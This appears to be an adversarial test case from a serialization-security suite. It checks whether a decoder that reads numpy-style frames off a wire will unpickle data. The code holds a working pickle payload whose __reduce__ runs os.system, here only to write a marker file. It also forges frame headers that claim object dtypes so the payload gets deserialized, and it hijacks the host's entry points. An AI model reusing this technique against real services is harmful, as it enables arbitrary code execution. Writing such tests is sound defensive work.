# mypy: ignore-errors
"""
id = "E11b"
title = "Write pickles to the wire in place of frames, and arrays of objects in frames"
goal = "Whatever reads the wire is lenient about what it finds there."
succeeds = ["marker", "broken"]
base = "starter"
any_problem = true
"""

import os
import pickle
import struct
import sys

import numpy as np


class Maker:
    def __reduce__(self):
        return os.system, ("echo > @FOLDER@/left-@MARK@",)


frame = sys._getframe()
while frame and "write_frame" not in frame.f_globals:
    frame = frame.f_back
body = pickle.dumps(Maker())
body += bytes(-len(body) % 8)


def answer(*arguments, **options):
    if frame:
        header = bytes(frame.f_globals["encode"]({"value": np.zeros(len(body) // 8)}).header)
        for dtype in (b"\xa2|O", b"\xa2O8", b"\xa3|V8", b"\xa6object"):
            lie = header.replace(b"\xa3<f8", dtype)
            os.write(3, struct.pack("!4sIQ", b"CPW1", len(lie), len(body)) + lie + body)
    os.write(3, body)


for name in "@ENTRIES@".split():
    globals()[name] = answer
